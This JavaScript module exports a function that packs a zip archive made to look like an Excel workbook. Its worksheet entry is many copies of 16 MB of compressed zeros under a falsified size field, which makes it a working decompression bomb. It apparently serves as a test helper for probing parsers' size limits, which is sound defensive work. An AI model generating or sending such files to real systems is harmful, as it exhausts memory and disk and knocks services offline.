import { constants, crc32, deflateRawSync } from 'node:zlib';

const BLOCK = 16 * 1024 * 1024;
const STORED = 0;
const DEFLATED = 8;

const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const DOCUMENT = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
/** What leads a reader to the sheet. */
const PARTS = {
  '[Content_Types].xml': `<Types xmlns="${PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
  '_rels/.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${DOCUMENT}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  'xl/workbook.xml': `<workbook xmlns="${MAIN}" xmlns:r="${DOCUMENT}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`,
  'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${DOCUMENT}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
};

/**
 * An archive that looks like a workbook and unpacks to so many times 16 MB of nothing.
 * @param claimed what its directory says it unpacks to
 */
export function zipBomb(copies, claimed) {
  const nothing = deflateRawSync(Buffer.alloc(BLOCK), { finishFlush: constants.Z_FULL_FLUSH, level: 9 });
  const end = Buffer.from([0x03, 0x00]);
  return archive([
    ...Object.entries(PARTS).map(([name, text]) => ({
      name,
      data: Buffer.from(text),
      method: STORED,
      size: text.length,
    })),
    {
      name: 'xl/worksheets/sheet1.xml',
      data: Buffer.concat([...Array.from({ length: copies }, () => nothing), end]),
      method: DEFLATED,
      size: claimed,
    },
  ]);
}

/**
 * A zip archive of entries; what is packed has no checksum. Source: APPNOTE.TXT, sections 4.3.7, 4.3.12 and
 * 4.3.16.
 */
function archive(entries) {
  const files = [];
  const directory = [];
  let at = 0;
  for (const { name, data, method, size } of entries) {
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(method === STORED ? crc32(data) : 0, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    local.copy(central, 6, 4, 28);
    central.writeUInt32LE(at, 42);
    files.push(local, Buffer.from(name), data);
    directory.push(central, Buffer.from(name));
    at += local.length + name.length + data.length;
  }
  const listing = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(listing.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...files, listing, end]);
}
